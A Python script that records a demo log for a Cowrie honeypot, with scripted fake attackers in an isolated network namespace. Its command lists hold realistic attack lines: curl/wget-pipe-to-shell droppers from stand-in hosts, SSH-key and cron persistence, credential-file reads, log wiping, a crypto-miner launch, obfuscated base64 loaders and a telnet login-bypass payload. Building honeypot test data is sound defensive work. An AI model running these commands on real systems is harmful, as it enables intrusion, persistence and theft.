"""Make the demo recording: scripted visitors attack a real Cowrie, and its log becomes the demo file.

Usage: python -m scripts.record_cowrie demo/cowrie.json

Everything happens in a network namespace of its own, which has no way out: the script starts itself anew inside one
(`unshare --user --net`). The namespace's loopback device carries documentation addresses (RFC 5737), so Cowrie sees
several attackers and its log is shipped exactly as Cowrie wrote it. It also carries one address of the withdrawn 6to4
relay range (RFC 7526), where the files lie that attackers fetch: Cowrie refuses to fetch from any address that is not
globally routable, and nobody owns that one.

All names, passwords, keys and payloads here are made up. No payload does anything.
"""

from __future__ import annotations

import asyncio
import base64
import fcntl
import os
import shutil
import socket
import ssl
import struct
import sys
import tempfile
from collections import Counter
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import TYPE_CHECKING

import asyncssh

from tests.cowrie_lab import CowrieLab, run_command, running_cowrie

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterable, Iterator, Sequence

HONEYPOT = "192.0.2.10"
DEPOT = "192.88.99.7"
SENSOR = "decoy-ssh-01"
TARGET = "/tmp"  # noqa: S108 - on the honeypot
INSIDE = "DECNET_RECORDING_INSIDE"

SOCKET_ADDRESS = 0x8916  # SIOCSIFADDR, SIOCSIFNETMASK and SIOCSIFFLAGS of linux/sockios.h
SOCKET_NETMASK = 0x891C
SOCKET_FLAGS = 0x8914
UP_AND_RUNNING = 0x41

MAX_BYTES = 1_500_000

DROPPER_SCRIPT = b"#!/bin/sh\ncd /tmp\nfor a in x86 mips arm7; do echo fetched-$a; done\nrm -f bins.sh\n"
FAKE_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + b"not a program, only a recording\n"
DEPOT_FILES = {"/bins.sh": DROPPER_SCRIPT, "/bot.x86": FAKE_ELF, "/xmrig-6.21.tar.gz": b"\x1f\x8b" + bytes(64)}
PUBLIC_KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDdemoDEMOdemoDEMOdemoDEMOdemoDEMO= keeper@203.0.113.40"

COMMON_NAMES = ("root", "admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "ftpuser", "pi", "www-data")
COMMON_PASSWORDS = ("123456", "password", "admin", "12345678", "qwerty", "1q2w3e4r", "letmein", "P@ssw0rd", "root123")

DROPPER = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "nproc; w; free -m",
    "cat /proc/cpuinfo | grep 'model name' | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    f"cd /tmp || cd /var/run || cd /mnt; wget http://{DEPOT}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    f"cd /tmp; curl -s -O http://{DEPOT}/bot.x86; chmod +x bot.x86; ./bot.x86 ssh.wget; rm -f bot.x86",
    "cd /tmp; wget http://203.0.113.66/a.sh -O- | sh",
    f"curl -s http://{DEPOT}:8080/c.sh | sh || wget -qO- http://{DEPOT}:8080/c.sh | sh",
    "tftp -g -r tftp1.sh 203.0.113.66; sh tftp1.sh",
    f"cd /tmp && ftpget -v -u anonymous -p anonymous -P 21 {DEPOT} ftp1.sh ftp1.sh; sh ftp1.sh",
    "/bin/busybox wget http://203.0.113.66/mips -O /tmp/.m; /bin/busybox chmod 777 /tmp/.m; /tmp/.m busybox",
)
KEY_KEEPER = (
    f'cd ~; rm -rf .ssh; mkdir .ssh; echo "{PUBLIC_KEY}" >> .ssh/authorized_keys; chmod -R go= ~/.ssh; cd ~',
    f'mkdir -p ~/.ssh && echo "{PUBLIC_KEY}" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys',
    "chattr -ia ~/.ssh/authorized_keys; lockr -ia .ssh",
    'echo "root:Zq7vD2example" | chpasswd',
    "echo -e 'ubuntu:n3w-Pass-Phrase\\nadmin:n3w-Pass-Phrase' | chpasswd | bash",
    "echo 'support ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "cat ~/.ssh/authorized_keys; ls -la ~/.ssh",
)
CRON_KEEPER = (
    "crontab -l",
    f'(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://{DEPOT}/bins.sh | sh") | crontab -',
    "echo '@reboot root /usr/local/sbin/.upd >/dev/null 2>&1' > /etc/cron.d/upd",
    "printf '[Service]\\nExecStart=/usr/local/sbin/.upd\\n' > /etc/systemd/system/upd.service",
    "systemctl daemon-reload; systemctl enable --now upd.service",
    "echo '/usr/local/sbin/.upd &' >> /etc/rc.local; echo 'nohup /usr/local/sbin/.upd &' >> ~/.bashrc",
)
CAREFUL_HUMAN = (
    "id",
    "uname -a; cat /etc/issue",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "ls -la /root /home",
    "netstat -tulpn",
    "ifconfig",
    "ip addr; arp -a; cat /etc/resolv.conf",
    "ps aux | grep -v '\\[' | head -40",
    "find / -name '*.pem' -o -name 'id_rsa*' 2>/dev/null",
    "cat ~/.bash_history ~/.ssh/id_rsa",
    "last -n 5",
    "grep -i pass /var/www/html/wp-config.php",
    "tar czf /tmp/.cache.tgz /etc/passwd /home",
    "touch -r /bin/ls /tmp/.cache.tgz",
    "unset HISTFILE",
    "export HISTSIZE=0; rm -f /var/log/wtmp; echo > /var/log/auth.log",
    "history -c",
)
MINER = (
    "systemctl stop apparmor; service aliyun stop; setenforce 0",
    "pkill -9 xmrig; pkill -f kinsing; killall -9 watchdogs; ps aux | grep -v grep | grep -a 'kdevtmpfsi'",
    "iptables -F; iptables -X; ufw disable",
    f"mkdir -p /var/tmp/.x && cd /var/tmp/.x && curl -o xm.tar.gz http://{DEPOT}/xmrig-6.21.tar.gz",
    "tar xzf xm.tar.gz && chmod +x xmrig",
    "nohup ./xmrig -o stratum+tcp://198.51.100.250:3333 -u 4demoWa11etdemo -p x -k --donate-level 1 >/dev/null 2>&1 &",
    "sysctl -w vm.nr_hugepages=128; echo 128 > /proc/sys/vm/nr_hugepages",
    "systemctl enable xmr.service; systemctl start xmr.service",
    "rm -rf /var/log/*; echo '' > /var/log/secure",
)
IOT_BOT = (
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "/bin/busybox ps; /bin/busybox ECCHI",
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon",
    "/bin/busybox rm /dev/.nippon",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
    f"/bin/busybox wget http://{DEPOT}/bot.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
    "./dvrHelper telnet.x86; /bin/busybox IHCCE",
    "rm -rf dvrHelper .s",
)


def encoded(text: str) -> str:
    """The text as attackers carry it through a shell: base64."""
    return base64.b64encode(text.encode()).decode()


OBFUSCATED = (
    f"echo {encoded(f'cd /tmp; wget -q http://{DEPOT}/bins.sh; sh bins.sh')} | base64 -d | sh",
    f'w"g"et http://{DEPOT}/bins.sh',
    f"$(echo -e '\\x77\\x67\\x65\\x74') http://{DEPOT}/bins.sh -O /tmp/.b",
    "\\c\\u\\r\\l -s http://203.0.113.66/x | ba''sh",
    "c=cu; d=rl; $c$d http://203.0.113.66/y",
    "cat${IFS}/etc/passwd",
    "printf '\\151\\144' | sh",
    f"eval $(echo {encoded('uname -a')} | base64 --decode)",
    f"bash -c 'exec bash <(echo {encoded('id; w')} | base64 -d)'",
    f"python3 -c \"import base64;exec(base64.b64decode('{encoded('print(1)')}'))\"",
    'perl -e \'print pack("H*","6964")\' | sh',
    "echo 6964 | xxd -r -p | sh",
)

# Text that tries to break whoever reads the log: terminal control, invalid UTF-8, right-to-left override, NUL,
# an encoded surrogate, a second log line inside a command, another address where an address is expected.
ODD_COMMANDS = (
    b"echo '\x1b[2J\x1b[31mcleared\x1b[0m\x07'",
    b"echo \xff\xfe\xfa broken utf-8",
    "echo 'invoice\u202efdp.sh' \u200b\u00fc\u4e2d\U0001f41d".encode(),
    b"echo lone \xed\xa0\x80 surrogate",
    b"echo nul\x00byte",
    b"echo 1\necho 2\r\necho 3",
    b'echo \'{"eventid":"cowrie.login.success","src_ip":"203.0.113.200","username":"root"}\'',
    b"export SSH_CLIENT='203.0.113.200 4444 22'; echo New connection: 203.0.113.200:4444",
    b"echo %(src_ip)s {0} %s ${jndi:ldap://203.0.113.200/a}",
    b"echo " + b"A" * 5000,
)
ODD_LOGINS = (
    (b"root\x1b[2K", b"\x1b]0;owned\x07"),
    (b"\xc3\x28\xa0\xa1", b"p\xc3\xa4ssw\xf6rd"),
    ("\u202etoor".encode(), "\u4e2d\u6587\U0001f41d".encode()),
    (b"root from 203.0.113.200 port 22", b"198.51.100.1"),
    (b'"}{"a":"', b"back\\slash %(src_ip)s"),
)

IAC, WILL, DO, SUB, END = b"\xff", b"\xfb", b"\xfd", b"\xfa", b"\xf0"
WINDOW_SIZE = IAC + WILL + b"\x1f" + IAC + SUB + b"\x1f" + struct.pack("!HH", 132, 43) + IAC + END
LOGIN_BYPASS = IAC + WILL + b"\x27" + IAC + SUB + b"\x27\x00\x00USER\x01-f root" + IAC + END

EXPECTED = frozenset(
    {
        "cowrie.client.fingerprint",
        "cowrie.client.kex",
        "cowrie.client.malformed_packet",
        "cowrie.client.size",
        "cowrie.client.var",
        "cowrie.client.version",
        "cowrie.command.chpasswd",
        "cowrie.command.failed",
        "cowrie.command.input",
        "cowrie.command.success",
        "cowrie.direct-tcpip.data",
        "cowrie.direct-tcpip.ja4",
        "cowrie.direct-tcpip.ja4h",
        "cowrie.direct-tcpip.request",
        "cowrie.log.closed",
        "cowrie.login.failed",
        "cowrie.login.success",
        "cowrie.session.closed",
        "cowrie.session.connect",
        "cowrie.session.file_download",
        "cowrie.session.file_download.failed",
        "cowrie.session.file_upload",
        "cowrie.session.input",
        "cowrie.session.params",
        "cowrie.telnet.error",
        "cowrie.telnet.exploit_attempt",
        "cowrie.telnet.exploit_success",
        "cowrie.telnet.option",
    }
)
"""What a recording must contain: every event that Cowrie can write without a proxied machine or an outside service."""


class Guesser(asyncssh.SSHClient):
    """An SSH client that offers one password after the other until one fits or none is left."""

    def __init__(self, guesses: Iterable[str]) -> None:
        self._guesses = iter(guesses)

    def password_auth_requested(self) -> str | None:
        """The next password."""
        return next(self._guesses, None)


@dataclass(frozen=True, slots=True)
class Visitor:
    """One attacker: an own source address, an own SSH client, and the honeypot before it."""

    lab: CowrieLab
    source: str
    client: str = "libssh_0.10.6"
    ciphers: Sequence[str] = ()

    async def log_in(
        self, username: str, guesses: Iterable[str], key: asyncssh.SSHKey | None = None
    ) -> asyncssh.SSHClientConnection:
        """An open SSH connection; raises asyncssh.PermissionDenied when no password fits."""
        connection, _ = await asyncssh.create_connection(
            partial(Guesser, guesses),
            self.lab.address,
            self.lab.ssh_port,
            local_addr=(self.source, 0),
            username=username,
            client_keys=[key] if key else None,
            client_version=self.client,
            encryption_algs=self.ciphers,
            known_hosts=None,
            config=None,
            agent_path=None,
        )
        return connection

    async def guess(self, username: str, guesses: Sequence[str]) -> None:
        """Some passwords are tried on one connection; whether one fits does not matter."""
        with suppress(asyncssh.Error, OSError):
            async with await self.log_in(username, guesses):
                pass

    async def run_each(self, login: tuple[str, str], commands: Iterable[str | bytes]) -> None:
        """Each command has run on a channel of its own, all on one connection."""
        username, secret = login
        async with await self.log_in(username, [secret]) as connection:
            for command in commands:
                await run_command(connection, command)

    async def send_bytes(self, port: int, *chunks: bytes) -> None:
        """The bytes have been sent to a port as they are, and the answer waited for."""
        reader, writer = await asyncio.open_connection(self.lab.address, port, local_addr=(self.source, 0))
        with suppress(ConnectionError):
            for chunk in chunks:
                writer.write(chunk)
                await writer.drain()
                await quiet(reader)
        writer.close()


async def quiet(reader: asyncio.StreamReader | asyncssh.SSHReader[bytes], pause_s: float = 0.25) -> bytes:
    """What the honeypot says until it falls silent."""
    heard = b""
    with suppress(TimeoutError):
        while more := await asyncio.wait_for(reader.read(4096), pause_s):
            heard += more
    return heard


async def spray(visitor: Visitor) -> None:
    """Brute force: many names, a few passwords each, a connection per name."""
    for name in COMMON_NAMES:
        await visitor.guess(name, COMMON_PASSWORDS[:2])


async def brute_force(visitor: Visitor) -> None:
    """Brute force on one name until a password fits; then one look, and away."""
    for start in range(0, len(COMMON_PASSWORDS), 3):
        await visitor.guess("root", COMMON_PASSWORDS[start : start + 3])
    async with await visitor.log_in("root", ["toor", "Summer2024!"]) as connection:
        await run_command(connection, "uname -s -v -n -r -m")


async def stuff_credentials(visitor: Visitor) -> None:
    """Many short connections with one name and password each, several at a time."""
    pairs = [(name, name + ending) for name in COMMON_NAMES for ending in ("", "1", "123", "2024")]
    for start in range(0, len(pairs), 8):
        await asyncio.gather(*(visitor.guess(name, [guess]) for name, guess in pairs[start : start + 8]))


async def keep_key(visitor: Visitor) -> None:
    """Key persistence; a key is offered before the password."""
    key = asyncssh.generate_private_key("ssh-ed25519")
    async with await visitor.log_in("root", ["Summer2024!"], key) as connection:
        for command in KEY_KEEPER:
            await run_command(connection, command)
        with suppress(TimeoutError):  # Cowrie's useradd asks questions; this visitor hangs up instead of answering
            await asyncio.wait_for(run_command(connection, "useradd -m -s /bin/bash -G sudo support"), 2)


async def look_around(visitor: Visitor) -> None:
    """A careful human at an interactive shell, who also sends environment variables and changes the password."""
    async with await visitor.log_in("oracle", ["oracle"]) as connection:
        process = await connection.create_process(
            term_type="xterm-256color", term_size=(120, 40), env={"LANG": "en_US.UTF-8", "LC_ALL": "C"}, encoding=None
        )
        for line in CAREFUL_HUMAN:
            await quiet(process.stdout)
            process.stdin.write(line.encode() + b"\n")
        for line in ("passwd", "Br4nd-new-Secret", "Br4nd-new-Secret", "for i in 1 2", "do echo $i", "done", "exit"):
            await quiet(process.stdout)
            process.stdin.write(line.encode() + b"\n")
        await quiet(process.stdout)


async def feed_shell(visitor: Visitor) -> None:
    """Programs that read what the attacker pipes into them: a shell, a file writer, base64, tee."""
    async with await visitor.log_in("ubuntu", ["ubuntu"]) as connection:
        await run_command(connection, "bash", stdin=b"whoami\nhostname\nexit\n")
        await run_command(connection, "cat > /tmp/.kit && chmod +x /tmp/.kit", stdin=FAKE_ELF)
        await run_command(connection, "sudo -S -p '' id", stdin=b"ubuntu\n")
        process = await connection.create_process(term_type="vt100", encoding=None)
        for line in ("cat > /tmp/note", "first line", "second line", "\x04", "base64 -d", "aWQ=", "\x04", "exit"):
            await quiet(process.stdout)
            process.stdin.write(line.encode() + (b"" if line == "\x04" else b"\n"))
        await quiet(process.stdout)


async def upload(visitor: Visitor) -> None:
    """Tools arrive over SFTP and SCP, then run."""
    script = b"#!/bin/sh\necho installed\n"
    async with await visitor.log_in("admin", ["admin123"]) as connection:
        async with connection.start_sftp_client() as sftp, sftp.open(f"{TARGET}/kworker", "wb") as file:
            await file.write(FAKE_ELF + b"sftp")
        # As OpenSSH's scp does it, with an end of file; asyncssh's sends none, and Cowrie then keeps the raw stream.
        await run_command(connection, f"scp -t {TARGET}", stdin=b"C0755 %d install.sh\n%b\0" % (len(script), script))
        await run_command(connection, "chmod +x /tmp/kworker /tmp/install.sh; /tmp/install.sh; /tmp/kworker &")


async def forward(visitor: Visitor) -> None:
    """The honeypot is asked to pass traffic on: HTTP, TLS and mail. Cowrie answers itself and connects nowhere."""
    mail = b"EHLO relay.example\r\nMAIL FROM:<a@example.net>\r\n"
    page = b"GET /ip HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0\r\nAccept-Language: en\r\n\r\n"
    async with await visitor.log_in("admin", ["admin123"]) as connection:
        for port, data in ((80, page), (443, client_hello()), (25, mail)):
            reader, writer = await connection.open_connection("203.0.113.9", port, orig_host="10.20.30.40")
            writer.write(data)
            await quiet(reader)
            writer.close()


def client_hello() -> bytes:
    """The first bytes of a TLS connection."""
    outgoing = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="relay.example")
    with suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


async def infect_device(visitor: Visitor, login: tuple[bytes, bytes] = (b"root", b"xc3511")) -> None:
    """A telnet bot: factory logins, busybox probes, a dropped binary."""
    tries = [(b"root", b"vizxv"), (b"admin", b"admin"), login]
    lines = [word + b"\r\n" for pair in tries for word in pair]
    lines += [command.encode() + b"\r\n" for command in IOT_BOT]
    await visitor.send_bytes(visitor.lab.telnet_port, WINDOW_SIZE, *lines, b"exit\r\nexit\r\n")


async def bypass_login(visitor: Visitor) -> None:
    """CVE-2026-24061: a telnet environment variable that logs in as root."""
    await visitor.send_bytes(
        visitor.lab.telnet_port, LOGIN_BYPASS, b"x\r\n", b"id\r\n", b"id; uname -a\r\n", b"exit\r\n"
    )


async def confuse(visitor: Visitor) -> None:
    """Names, passwords, commands and a client version made to break a reader of the log."""
    words = [word + b"\r\n" for pair in ODD_LOGINS for word in pair]
    await visitor.send_bytes(visitor.lab.telnet_port, *words)
    await visitor.send_bytes(visitor.lab.ssh_port, b"SSH-2.0-\x1b[31mOpenSSH_\xff\xfe\r\n")
    await visitor.guess("root' OR '1'='1", ["%s%n\\x41", "\u202e\u4e2d\u6587"])
    async with await visitor.log_in("ubuntu", ["ubuntu"]) as connection:
        for command in ODD_COMMANDS:
            await run_command(connection, command)
        process = await connection.create_process(term_type="\x1b[31mxterm", env={"A\x1b[2J": "\u202ex"}, encoding=None)
        for line in (b"echo \xff\xfe\xfa \xc3\xbc\n", b"echo tab\there \x1b[A\n", b"echo nul\x00here\n", b"exit\n"):
            await quiet(process.stdout)
            process.stdin.write(line)
        await quiet(process.stdout)


async def scan(visitor: Visitor) -> None:
    """A port scanner: silence, HTTP, an old SSH version, a cut-off key exchange, bytes that are no telnet."""
    ssh_port, telnet_port = visitor.lab.ssh_port, visitor.lab.telnet_port
    cut_off = struct.pack("!IB", 28, 7) + b"\x14" + bytes(range(16)) + b"\x00\x00\x01" + bytes(7)
    await visitor.send_bytes(ssh_port)
    await visitor.send_bytes(ssh_port, b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\n")
    await visitor.send_bytes(ssh_port, b"SSH-1.5-NmapNSE_1.0\r\n")
    await visitor.send_bytes(ssh_port, b"SSH-2.0-zgrab\r\n", cut_off)
    await visitor.send_bytes(telnet_port, IAC + DO + b"\x01" + IAC + WILL + b"\x18" + IAC + b"\x01")


def stories(lab: CowrieLab) -> list[Callable[[], Awaitable[None]]]:
    """Who comes, in the order of arrival."""
    visitor = partial(Visitor, lab)
    aes = ("aes128-ctr", "aes256-ctr")
    return [
        partial(spray, visitor("198.51.100.11", client="Go")),
        partial(scan, visitor("198.51.100.12")),
        partial(brute_force, visitor("198.51.100.13", client="libssh2_1.4.3", ciphers=aes)),
        partial(infect_device, visitor("198.51.100.14")),
        partial(visitor("198.51.100.15", client="Go").run_each, ("root", "Summer2024!"), DROPPER),
        partial(stuff_credentials, visitor("198.51.100.16", client="paramiko_2.11.0", ciphers=("aes256-ctr",))),
        partial(keep_key, visitor("198.51.100.17", client="libssh_0.9.6")),
        partial(visitor("198.51.100.17", client="libssh_0.9.6").run_each, ("root", "Summer2024!"), CRON_KEEPER),
        partial(look_around, visitor("198.51.100.18", client="OpenSSH_9.6p1 Ubuntu-3ubuntu13")),
        partial(visitor("198.51.100.19", client="Go").run_each, ("root", "Summer2024!"), OBFUSCATED),
        partial(upload, visitor("198.51.100.20", client="PuTTY_Release_0.78")),
        partial(feed_shell, visitor("198.51.100.20", client="PuTTY_Release_0.78")),
        partial(forward, visitor("198.51.100.21", client="Go", ciphers=aes)),
        partial(confuse, visitor("198.51.100.22")),
        partial(visitor("198.51.100.23", client="Go").run_each, ("root", "Summer2024!"), MINER),
        partial(bypass_login, visitor("198.51.100.24")),
        partial(infect_device, visitor("198.51.100.25"), (b"root", b"")),
    ]


async def attack(lab: CowrieLab) -> None:
    """Every story has been played. They begin a second apart and overlap, as visits do."""
    async with asyncio.TaskGroup() as group:
        for number, story in enumerate(stories(lab)):
            group.create_task(arrive(story, delay_s=float(number)))


async def arrive(story: Callable[[], Awaitable[None]], delay_s: float) -> None:
    """The story has been played, after a delay."""
    await asyncio.sleep(delay_s)
    await story()


class Depot(BaseHTTPRequestHandler):
    """The attackers' web server: a few harmless files."""

    def do_GET(self) -> None:
        """Answer one request."""
        body = DEPOT_FILES.get(self.path)
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def open_depot() -> Iterator[None]:
    """The attackers' files can be fetched from DEPOT until the block ends."""
    with ThreadingHTTPServer((DEPOT, 80), Depot) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()


def enter_own_network(arguments: list[str]) -> None:
    """Start this script anew in a network namespace without a way out, or say why that cannot be."""
    unshare = shutil.which("unshare")
    if unshare is None:
        raise SystemExit("unshare (util-linux) is needed: the recording is made in a network without a way out")
    os.environ[INSIDE] = "1"
    wanted = [unshare, "--user", "--map-root-user", "--net", sys.executable, "-m", "scripts.record_cowrie", *arguments]
    os.execv(unshare, wanted)  # noqa: S606 - no shell is wanted


def lay_network() -> None:
    """The loopback device is up and carries 198.51.100.0/24, the honeypot and the depot, nothing else being there."""
    if [name for _, name in socket.if_nameindex()] != ["lo"]:
        raise SystemExit("this network has a way out; unset " + INSIDE + " and start again")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        fcntl.ioctl(control, SOCKET_FLAGS, struct.pack("16sh14x", b"lo", UP_AND_RUNNING))
        places = (("198.51.100.1", "255.255.255.0"), (HONEYPOT, "255.255.255.255"), (DEPOT, "255.255.255.255"))
        for number, (address, netmask) in enumerate(places, 1):
            for request, value in ((SOCKET_ADDRESS, address), (SOCKET_NETMASK, netmask)):
                name = f"lo:{number}".encode()
                fcntl.ioctl(control, request, struct.pack("16sH2x4s8x", name, socket.AF_INET, socket.inet_aton(value)))


def record(folder: Path) -> CowrieLab:
    """All visits have been made and Cowrie has closed its log."""
    settings = {
        "ssh": {"listen_endpoints": f"tcp:2222:interface={HONEYPOT}"},
        "telnet": {"listen_endpoints": f"tcp:2223:interface={HONEYPOT}"},
        # Otherwise the sixth visitor within a minute finds the depot closed: Cowrie counts for all of them together.
        "shell": {"wget_rate_limit_enabled": "false", "curl_rate_limit_enabled": "false"},
    }
    with open_depot(), running_cowrie(folder, sensor=SENSOR, address=HONEYPOT, settings=settings) as lab:
        asyncio.run(attack(lab))
    return lab


def check(lab: CowrieLab) -> Counter[str]:
    """How often each event id occurs; ends the script when the recording is not what the demo needs."""
    events = lab.events()
    counts = Counter(str(event["eventid"]) for event in events)
    missing = sorted(EXPECTED - counts.keys())
    strangers = sorted({event["src_ip"] for event in events if not event["src_ip"].startswith("198.51.100.")})
    size = lab.log.stat().st_size
    if missing or strangers or size > MAX_BYTES:
        raise SystemExit(f"not usable: event ids missing {missing}, foreign sources {strangers}, {size} bytes")
    return counts


def main(arguments: list[str]) -> None:
    """The recording lies in the file named by the only argument."""
    if len(arguments) != 1:
        raise SystemExit("usage: python -m scripts.record_cowrie FILE")
    if INSIDE not in os.environ:
        enter_own_network(arguments)
    lay_network()
    with tempfile.TemporaryDirectory() as folder:
        lab = record(Path(folder))
        counts = check(lab)
        shutil.copyfile(lab.log, arguments[0])
    for eventid, count in sorted(counts.items()):
        print(f"{count:6} {eventid}")
    print(f"{counts.total():6} lines in {arguments[0]}")


if __name__ == "__main__":
    main(sys.argv[1:])
